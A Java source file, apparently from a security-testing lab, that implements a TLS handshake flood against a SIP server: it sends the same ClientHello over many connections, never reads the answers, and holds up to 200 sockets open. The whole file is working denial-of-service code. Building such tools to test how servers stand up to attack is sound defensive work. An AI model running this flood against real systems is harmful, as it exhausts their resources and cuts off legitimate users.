package dev.sottovoce.lab.attacks;

import java.io.IOException;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.util.ArrayDeque;
import java.util.Deque;
import javax.net.ssl.SSLEngine;

/**
 * A stranger who begins handshakes one after the other, each with the same ClientHello, and reads
 * none of the server's answers: cheap for the one, dear for the other.
 */
public final class Greetings implements AutoCloseable {
  private static final int MOST_OPEN = 200;
  private static final int ROOM = 32 * 1024;

  private final Target target;
  private final String from;
  private final byte[] hello;
  private final Thread thread;
  private volatile boolean over;

  /**
   * Begins.
   *
   * @param from the stranger's address
   * @param pauseMillis between two handshakes
   */
  public Greetings(Target target, String from, long pauseMillis) throws Exception {
    this.target = target;
    this.from = from;
    SSLEngine client = target.trusting().createSSLEngine();
    client.setUseClientMode(true);
    ByteBuffer first = ByteBuffer.allocate(ROOM);
    client.wrap(ByteBuffer.allocate(0), first);
    hello = new byte[first.position()];
    first.flip().get(hello);
    thread = Thread.ofPlatform().daemon().start(() -> greet(pauseMillis));
  }

  private void greet(long pauseMillis) {
    Deque<Socket> open = new ArrayDeque<>();
    try {
      while (!over) {
        open.add(one());
        if (open.size() > MOST_OPEN) open.remove().close();
        Thread.sleep(pauseMillis);
      }
      for (Socket each : open) each.close();
    } catch (IOException | InterruptedException e) {
      // The server is gone, or the flood is over.
    }
  }

  private Socket one() throws IOException {
    Socket socket = target.connect(from, target.sipPort());
    try {
      socket.getOutputStream().write(hello);
    } catch (IOException e) {
      // It was turned away already.
    }
    return socket;
  }

  @Override
  public void close() throws InterruptedException {
    over = true;
    thread.join();
  }
}
